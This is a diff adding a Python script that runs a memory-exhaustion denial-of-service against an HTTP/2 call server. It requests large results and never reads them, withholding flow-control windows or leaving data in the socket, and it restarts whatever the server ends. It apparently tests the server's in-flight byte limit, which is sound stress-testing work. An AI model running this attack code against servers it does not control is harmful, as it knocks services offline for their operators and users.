@@ -1,0 +1,140 @@
+#!/usr/bin/env python3
+"""A caller that asks for large results and reads none: it wants all the memory that the server has for results.
+
+  unread.py --target 127.0.0.1:PORT [--source 127.0.0.2] [--method stream|unary] [--connections N] [--how window|socket]
+
+It sends 45 small pieces (or calls), whose results and what is computed for them add up to --bytes, and then a few times
+smaller ones for what is left. With --how window it gives the server no HTTP/2 window for results; with --how socket it leaves what comes
+in its socket. What the server ends it begins again. Prints "holding" once everything has been sent, and at the end a line
+of JSON: "begun" streams or calls, and how many the server "ended".
+"""
+
+from __future__ import annotations
+
+import argparse
+import itertools
+import json
+import signal
+import time
+
+import http2
+import messages
+
+PIECES = 45
+VALUE_DIM = 4096
+FILLERS = tuple(1 << shift for shift in range(24, 10, -1))
+FILLINGS = 6  # rounds: what is computed at first holds more than its result
+
+
+def large(total: int) -> messages.Call:
+    """One of PIECES calls with large results that take about `total` bytes in all."""
+    queries = (total // PIECES - 2 * VALUE_DIM - 64) // (4 * VALUE_DIM + 2)
+    return messages.Call(queries=queries, value_dim=VALUE_DIM, output_dtype=messages.FP32)
+
+
+def filler(size: int) -> messages.Call:
+    value_dim = min(VALUE_DIM, size // 64)
+    return messages.Call(queries=size // (4 * value_dim), value_dim=value_dim, output_dtype=messages.FP32)
+
+
+class Share:
+    """Calls over one connection, or one after another where nothing is read, and what became of them."""
+
+    ids = itertools.count(1)
+
+    def __init__(self, options: argparse.Namespace, calls: list[messages.Call]):
+        self.options = options
+        self.calls = calls
+        self.connection: http2.Connection | None = None
+        self.kept: list[http2.Connection] = []
+        self.streams: list[http2.Stream] = []
+        self.begun = self.ended = 0
+
+    def begin(self) -> None:
+        """Sends the calls, beside those that are under way."""
+        old, reads_none = self.connection, self.options.how == "socket"
+        if old is None or old.closed or old.goaway or reads_none:
+            if old is not None and reads_none:
+                self.kept.append(old)
+            window = http2.LARGEST_WINDOW if reads_none else 0
+            self.connection = http2.Connection(self.options.target, self.options.source, window)
+        connection = self.connection
+        if self.options.method == "stream":
+            opened = [connection.open(messages.STREAM)]
+            for call in self.calls:
+                connection.send(opened[0], call.piece(next(self.ids)))
+        else:
+            opened = [connection.open(messages.COMPUTE) for _ in self.calls]
+            for stream, call in zip(opened, self.calls):
+                connection.send(stream, call.message(), end=True)
+        self.streams += opened
+        self.begun += len(opened)
+        connection.pump_until(connection.sent, 5)  # the server says meanwhile how much more it takes
+
+    def pump(self, seconds: float) -> bool:
+        """Whether the server has ended something."""
+        if self.options.how == "socket":
+            time.sleep(seconds)
+            return False
+        self.connection.pump(seconds)
+        ended = [stream for stream in self.streams if stream.closed]
+        for stream in ended:
+            self.streams.remove(stream)
+            self.connection.streams.pop(stream.id, None)
+        self.ended += len(ended)
+        return bool(ended)
+
+
+class Attack:
+    def __init__(self, options: argparse.Namespace):
+        self.options = options
+        calls = [large(options.bytes)] * PIECES
+        self.shares = [Share(options, calls[i :: options.connections]) for i in range(options.connections)]
+        self.filler = Share(options, [filler(size) for size in FILLERS])
+
+    def run(self) -> None:
+        for share in self.shares:
+            share.begin()
+        print("holding", flush=True)
+        end, fillings = time.monotonic() + self.options.seconds, 0
+        begun = time.monotonic()
+        while time.monotonic() < end:
+            if fillings < FILLINGS:
+                self.filler.begin()
+                fillings += 1
+            next_round = time.monotonic() + 0.5
+            while time.monotonic() < next_round:
+                lost = [share for share in self.shares if share.pump(0.1 / len(self.shares))]
+                self.filler.pump(0)
+                # Where nothing is read nothing is known of ends: everything is sent once more from time to time.
+                if self.options.how == "socket" and time.monotonic() - begun > 5:
+                    lost, begun = self.shares, time.monotonic()
+                for share in lost:
+                    share.begin()
+                    fillings = 0
+
+    def report(self) -> dict[str, int]:
+        every = [*self.shares, self.filler]
+        return {"begun": sum(share.begun for share in every), "ended": sum(share.ended for share in every)}
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--target", required=True, help="host:port or unix:path")
+    parser.add_argument("--source", help="the address to call from")
+    parser.add_argument("--method", choices=("stream", "unary"), default="stream")
+    parser.add_argument("--how", choices=("window", "socket"), default="window")
+    parser.add_argument("--connections", type=int, default=1)
+    parser.add_argument("--bytes", type=int, default=1 << 30, help="what to take: the server's --max_inflight_bytes")
+    parser.add_argument("--seconds", type=float, default=30)
+    options = parser.parse_args()
+    attack = Attack(options)
+    signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(SystemExit))
+    try:
+        attack.run()
+    finally:
+        print(json.dumps(attack.report()), flush=True)
+
+
+if __name__ == "__main__":
+    main()
